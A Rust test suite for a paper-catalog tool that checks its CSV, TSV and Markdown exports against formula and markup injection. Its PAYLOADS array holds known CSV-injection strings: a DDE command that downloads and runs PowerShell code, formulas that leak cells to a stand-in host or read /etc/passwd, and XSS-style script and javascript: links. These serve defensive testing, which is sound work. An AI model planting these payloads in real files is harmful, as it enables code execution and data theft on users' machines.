//! Promise 10: no cell can run. In CSV and TSV no text begins as what a spreadsheet takes for a formula, numbers are numbers,
//! `--raw` leaves text as it is, and what was put in front of it is taken away when it comes back.
#![allow(missing_docs, clippy::unwrap_used, reason = "the names of the tests say what they show; a test may panic")]

mod common;

use std::process::Command;

use common::{TestCatalog, rounds, stderr, stdout};

/// Formulas in the forms in which they are known to be brought in. Sources: OWASP, "CSV Injection"; CWE-1236.
const PAYLOADS: [&str; 44] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.org?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.org?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
    "=IMPORTDATA(\"http://x.org\")",
    "=WEBSERVICE(\"http://x.org\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=1+1\";=1+1",
    "-1",
    "+1",
    "-2+3+cmd|'/C calc'!A0",
    "- 1",
    "+49 30 1234",
    "@import",
    "@",
    "=",
    "-",
    "+",
    "==1",
    "=-1",
    "'=1+1",
    "''=1+1",
    "'-1",
    "' =1+1",
    "'",
    "''",
    "'quoted' title",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
    "\"=1+1\"",
    "a=1",
    "=1,2",
    "=a;b",
    "=x\\",
];

/// Text that another program may have put into a catalog, or that stands in entries as they came.
const UNCLEAN: [&str; 12] = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{1}=1+1",
    "\t",
    "\tplain",
    "x\n=1+1",
    "'\t=1",
];

/// Whether a spreadsheet may take a cell for something else than text or a number.
fn runs(cell: &str) -> bool {
    let seen = cell.trim_start_matches(|letter: char| {
        letter.is_whitespace() || letter.is_control() || matches!(letter, '\u{200b}' | '\u{feff}')
    });
    cell.starts_with(char::is_control) || seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '−'])
}

/// A catalog with a payload in each text that there is.
fn filled(payloads: &[&str]) -> TestCatalog {
    let catalog = TestCatalog::empty();
    let line = |(number, payload): (usize, &&str)| {
        let own = |text: &str| text.replace('\\', "\\\\").replace(';', "\\;");
        let item = own(payload);
        serde_json::json!({
            "title": format!("{payload} {number}"), "authors": format!("{item} {number}; {item} Lee"), "authors_complete": true,
            "published_on": format!("{}", 2000 + number % 20), "venue": payload, "categories": item, "keywords": item,
            "affiliations": item, "abstract": payload, "identifiers": format!("doi:10.5555/{number}"),
            "links": format!("code field https://x.org/{number}"),
        })
        .to_string()
            + "\n"
    };
    catalog.write("papers.jsonl", payloads.iter().enumerate().map(|at| (at.0 + 1, at.1)).map(line).collect::<String>());
    let imported = catalog.run(["import", "papers.jsonl"]);
    assert!(imported.status.success(), "{}", stderr(&imported));
    catalog
}

const REPORTS: &[&str] = &[
    "papers",
    "papers --ids",
    "show 1",
    "show 1 --sources",
    "show 16 --sources",
    "authors",
    "author #1",
    "coauthors #1",
    "years",
    "years --by venue",
    "years --by author",
    "years --by affiliation",
    "code",
    "code --by author",
    "code --by venue",
    "code --list with",
    "affiliations",
    "categories",
    "duplicates",
    "stats",
    "rejects",
    "review",
    "imports",
    "imports show 1",
    "rulings",
    "formats",
];

/// The rows of CSV or TSV.
fn cells(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn no_cell_of_any_report_runs() {
    let catalog = filled(&PAYLOADS);
    catalog.run(["import", "--as-of", common::AS_OF, common::listing("doubtful_cut.txt").to_str().unwrap()]);
    catalog.run(["import", "--as-of", common::AS_OF, common::listing("impossible_date.txt").to_str().unwrap()]);
    catalog.stdout(["set", "1", "venue==1+1"]);
    // What no listing brings in, another program may have written.
    let connection = catalog.open();
    for (text, id) in UNCLEAN.iter().zip(1..) {
        connection.execute("UPDATE paper SET title = ?1 WHERE id = ?2", rusqlite::params![text, id]).unwrap();
        connection.execute("UPDATE author SET name = ?1 WHERE id = ?2", rusqlite::params![text, id]).unwrap();
        connection.execute("UPDATE venue SET name = ?1 WHERE id = ?2", rusqlite::params![text, id]).unwrap();
    }
    connection.execute("UPDATE listing SET path = '=1+1/' || path", []).unwrap();
    connection
        .execute("UPDATE record SET text = '=1' || text, reason = '@' || reason WHERE outcome = 'rejected'", [])
        .unwrap();
    drop(connection);
    let mut text_count = 0;
    let exports =
        ["export csv", "export tsv"].map(|export| (export, export.split(' ').map(str::to_owned).collect::<Vec<_>>()));
    let mut questions: Vec<(&str, Vec<String>)> = exports.into_iter().collect();
    for report in REPORTS {
        for further in ["--format csv", "--format tsv", "--excel", "--excel --format tsv"] {
            let arguments = report.split(' ').chain(further.split(' ')).map(str::to_owned);
            questions.push((if further.contains("tsv") { "tsv" } else { "csv" }, arguments.collect()));
        }
    }
    for (format, arguments) in questions {
        let output = catalog.run(&arguments);
        assert!(output.status.success(), "{arguments:?}: {}", stderr(&output));
        let delimiter = if format.contains("tsv") { b'\t' } else { b',' };
        for row in cells(&stdout(&output), delimiter) {
            for cell in row {
                assert!(!runs(&cell), "{arguments:?}: {cell:?}");
                text_count += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(text_count > 500, "the payloads are there: {text_count}");
}

#[test]
fn numbers_are_never_guarded_and_raw_text_is_exact() {
    let catalog = filled(&PAYLOADS);
    let plain = cells(&catalog.stdout(["papers", "--ids", "--sort", "id", "--format", "csv"]), b',');
    let raw = cells(&catalog.stdout(["papers", "--ids", "--sort", "id", "--format", "csv", "--raw"]), b',');
    let titles: Vec<String> = catalog.values("SELECT title FROM paper ORDER BY id");
    let at = raw[0].iter().position(|name| name == "title").unwrap();
    let of_raw: Vec<_> = raw[1..].iter().map(|row| row[at].clone()).collect();
    assert_eq!(of_raw, titles);
    let id = raw[0].iter().position(|name| name == "id").unwrap();
    for (plain, raw) in plain.iter().zip(&raw) {
        assert_eq!(plain[id], raw[id]);
        for (plain, raw) in plain.iter().zip(raw) {
            assert!(plain == raw || *plain == format!("'{raw}"), "{plain:?} {raw:?}");
            assert_eq!(plain != raw, runs(raw.trim_start_matches('\'')), "{raw:?}");
        }
    }
    // Shares, counts and flags, too.
    for report in ["code", "authors", "stats", "imports"] {
        let plain = catalog.stdout([report, "--format", "csv"]);
        let numbers = cells(&plain, b',')
            .into_iter()
            .flatten()
            .filter(|cell| cell.trim_start_matches('\'').parse::<f64>().is_ok());
        for number in numbers {
            assert!(
                !number.starts_with('\'') || number.starts_with("'-") || number.starts_with("'+"),
                "{report}: {number}"
            );
        }
    }
    assert!(
        catalog.stdout(["export", "csv", "--raw"]).contains("\n2,=cmd|'/C calc'!A0 2,"),
        "{}",
        catalog.stdout(["export", "csv", "--raw"])
    );
    assert!(catalog.stdout(["export", "csv"]).contains("\n2,'=cmd|'/C calc'!A0 2,"));
    let both = catalog.run(["papers", "--excel", "--raw"]);
    assert_eq!(both.status.code(), Some(2), "one of them at a time");
    assert!(catalog.failure(["papers", "--raw", "--format", "json"]).contains("--raw is for CSV and TSV"));
}

#[test]
fn every_text_comes_back_as_it_was() {
    // Every short beginning of the marks that mean something, and the payloads.
    let marks = ["'", "=", "-", "@", "a", "＝", "\"", ";", "\\"];
    let mut beginnings: Vec<String> = marks.iter().map(ToString::to_string).collect();
    for length in 1..rounds(2, 4) {
        let longest: Vec<_> = beginnings.iter().filter(|text| text.chars().count() == length).cloned().collect();
        beginnings.extend(longest.iter().flat_map(|text| marks.iter().map(move |mark| format!("{text}{mark}"))));
    }
    let texts: Vec<&str> = PAYLOADS.iter().copied().chain(beginnings.iter().map(String::as_str)).collect();
    let catalog = filled(&texts);
    let before = catalog.stdout(["export", "jsonl"]);
    for options in [&["csv"][..], &["tsv"]] {
        let other = TestCatalog::empty();
        let file = other.path(&format!("all.{}", options[0]));
        let arguments: Vec<_> =
            ["export"].iter().chain(options).chain(&["-o", file.to_str().unwrap()]).copied().collect();
        catalog.stdout(&arguments);
        let imported = other.run(["import", file.to_str().unwrap()]);
        assert!(imported.status.success(), "{}", stderr(&imported));
        let after = other.stdout(["export", "jsonl"]);
        for (after, before) in after.lines().zip(before.lines()) {
            assert_eq!(after, before, "{options:?}");
        }
        assert_eq!(after.lines().count(), before.lines().count());
    }
    // Also through lists that are made for a spreadsheet, which Windows' line ends show.
    let titles: Vec<String> = catalog.values("SELECT title FROM paper ORDER BY title");
    for arguments in
        [&["papers", "--excel"][..], &["papers", "--format", "csv"], &["papers", "--excel", "--format", "tsv"]]
    {
        let other = TestCatalog::empty();
        other.write("papers", catalog.stdout(arguments));
        let imported = other.run(["import", "papers"]);
        assert!(imported.status.success(), "{arguments:?} {}", stderr(&imported));
        assert_eq!(other.values::<String>("SELECT title FROM paper ORDER BY title"), titles, "{arguments:?}");
    }
}

#[test]
fn the_guard_of_another_program_is_taken_away_once() {
    let catalog = TestCatalog::empty();
    catalog.write("zotero.csv", "Key,Author,Publication Year,Title\nA,\"'@home, Ann\",2020,'=1+1 rooms\nB,Bo Ek,2020,''=2 rooms\nC,Cy Wu,2020,'Tis rooms\n");
    catalog.stdout(["import", "zotero.csv"]);
    let titles: Vec<String> = catalog.values("SELECT title FROM paper ORDER BY id");
    assert_eq!(titles, ["=1+1 rooms", "'=2 rooms", "'Tis rooms"]);
}

#[test]
fn rulings_made_in_a_spreadsheet_are_read_without_their_guards() {
    let catalog = TestCatalog::import("doubtful_cut.txt");
    let list = catalog.stdout(["review", "--format", "csv"]);
    let mut rows = cells(&list, b',');
    let column = |name: &str| rows[0].iter().position(|known| known == name).unwrap();
    let (ruling, title, authors) = (column("ruling"), column("title"), column("authors"));
    (rows[1][ruling], rows[1][title], rows[1][authors]) =
        ("edited".into(), "'=1+1 Rooms".into(), "'@nn Lee; Bo".into());
    let mut writer = csv::Writer::from_path(catalog.path("review.csv")).unwrap();
    rows.iter().take(2).for_each(|row| writer.write_record(row).unwrap());
    writer.flush().unwrap();
    catalog.stdout(["review", "--batch", "review.csv"]);
    assert_eq!(catalog.value::<i64>("SELECT count(*) FROM paper WHERE title = '=1+1 Rooms'"), 1);
    assert_eq!(catalog.value::<i64>("SELECT count(*) FROM author WHERE name = '@nn Lee'"), 1);
}

#[test]
fn no_cell_of_a_markdown_table_brings_markup_or_a_further_cell() {
    let payloads = [
        "a|b",
        "a\\|b",
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "![x](http://x.org/x.png)",
        "`code`",
        "**bold**",
        "_em_",
        "&lt;b&gt;",
        "$x$",
        "~~gone~~",
        "# head",
        "x\\",
        "<!-- x",
        "<http://x.org>",
        "[x]: http://x.org",
        "![",
        "\\<b>",
    ];
    let catalog = filled(&payloads);
    let connection = catalog.open();
    connection.execute("UPDATE paper SET title = title || char(10) || '| x | y |' || char(13) || 'z'", []).unwrap();
    drop(connection);
    for report in
        ["papers", "authors", "affiliations", "categories", "show 1", "show 3 --sources", "imports", "years --by venue"]
    {
        let table = catalog.stdout(report.split(' ').chain(["--format", "markdown"]));
        let rows: Vec<_> = table.lines().take_while(|line| !line.is_empty()).collect();
        // A mark with an even number of backslashes before it means something.
        let marks = |line: &str, wanted: fn(char) -> bool| {
            let mut backslashes = 0_usize;
            let mut count = 0_usize;
            for letter in line.chars() {
                count += usize::from(wanted(letter) && backslashes.is_multiple_of(2));
                backslashes = if letter == '\\' { backslashes + 1 } else { 0 };
            }
            count
        };
        for row in &rows {
            assert_eq!(marks(row, |letter| letter == '|'), marks(rows[0], |letter| letter == '|'), "{report}: {row}");
            let others =
                marks(row, |letter| matches!(letter, '<' | '>' | '[' | ']' | '`' | '*' | '&' | '~' | '$' | '!'));
            assert_eq!(others, 0, "{report}: {row}");
        }
    }
}

#[test]
fn a_real_spreadsheet_finds_no_formula() {
    let soffice =
        ["soffice", "libreoffice"].into_iter().find(|name| Command::new(name).arg("--version").output().is_ok());
    let Some(soffice) = soffice else {
        eprintln!(
            "not checked with a real spreadsheet: there is no LibreOffice here; the cells are looked at themselves above"
        );
        return;
    };
    let catalog = filled(&PAYLOADS);
    catalog.stdout(["papers", "--format", "csv", "-o", "papers.csv"]);
    catalog.stdout(["export", "csv", "-o", "all.csv"]);
    for name in ["papers", "all"] {
        let mut convert = Command::new(soffice);
        convert.current_dir(catalog.path("")).env("HOME", catalog.path(""));
        // Flat XML, in which a formula is an attribute; every cell is evaluated as if it was typed.
        convert.args(["--headless", "--convert-to", "fods", "--infilter=CSV:44,34,76,1,,0,false,true,false,true"]);
        let output = convert.arg(format!("{name}.csv")).output().unwrap();
        let sheet = std::fs::read_to_string(catalog.path(&format!("{name}.fods")));
        let sheet = sheet.unwrap_or_else(|error| panic!("{error}: {}", stderr(&output)));
        assert!(sheet.contains("calc") && !sheet.contains("table:formula"), "{name}");
    }
}
